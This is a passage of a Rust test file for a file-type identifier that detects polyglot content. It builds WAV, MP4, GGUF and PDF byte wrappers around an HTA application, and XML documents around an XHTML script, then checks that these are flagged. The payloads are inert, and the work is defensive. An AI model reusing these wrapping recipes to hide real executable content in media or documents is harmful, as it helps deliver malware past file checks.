    assert_eq!(decode(&[b"\xff\xfe".as_slice(), &wide("caf\u{e9}")].concat()), "caf\u{e9}");
    assert_eq!(decode(b"a line that says caf\xe9"), "a line that says caf\u{e9}");
}

#[test]
fn markup_of_any_kind_with_a_script_of_a_page_is_a_page_as_well() {
    let script = "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>LAZARET()</x:script>";
    for (root, kind) in [("math", "mathml"), ("rss", "rss"), ("gpx", "gpx"), ("plist", "plist"), ("kml", "kml")] {
        let id = |text: &str| {
            let found = super::identify(&crate::Content::from(text.as_bytes())).unwrap();
            [&found.kind].into_iter().chain(&found.also).map(|kind| kind.id.to_string()).collect::<Vec<_>>()
        };
        assert_eq!(id(&format!("<?xml version='1.0'?><{root}>{script}</{root}>")), ["html", kind]);
        assert_eq!(
            id(&format!("<?xml version='1.0'?><{root}><p xmlns='http://www.w3.org/1999/xhtml'/></{root}>")),
            [kind]
        );
    }
}

#[test]
fn an_application_within_sound_film_fonts_or_data_is_one() {
    let application = b"<html><hta:application id=a><script language=vbscript>MsgBox 1</script></html>";
    let sound = |inner: &[u8]| {
        let data = [
            &b"fmt \x10\0\0\0\x01\0\x01\0\x40\x1f\0\0\x40\x1f\0\0\x01\0\x08\0JUNK"[..],
            &(inner.len() as u32).to_le_bytes()[..],
            inner,
        ];
        let data = data.concat();
        [&b"RIFF"[..], &(data.len() as u32 + 4).to_le_bytes(), b"WAVE", &data].concat()
    };
    let film = |inner: &[u8]| {
        [&b"\0\0\0\x10ftypisom\0\0\0\0"[..], &(inner.len() as u32 + 8).to_be_bytes(), b"free", inner].concat()
    };
    let model = |inner: &[u8]| [&b"GGUF\x03\0\0\0\x81\x9b"[..], inner].concat();
    let paper = |inner: &[u8]| {
        [&b"%PDF-1.4\n1 0 obj\n<</Type/Catalog>>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n"[..], inner].concat()
    };
    for bytes in [sound(application), film(application), model(application), paper(application)] {
        let found = identify(&Content::from(bytes)).unwrap();
        assert!(found.also.iter().any(|kind| kind.id == "hta"), "{found:?}");
    }
    // Words of a song, and a page in data, are none.
    for bytes in
        [sound(b"<p>La la la</p>"), film(b"<xmp><title>A</title></xmp>"), model(b"<html><script>a()</script></html>")]
    {
        let found = identify(&Content::from(bytes)).unwrap();
        assert!(found.also.is_empty(), "{found:?}");
    }
}
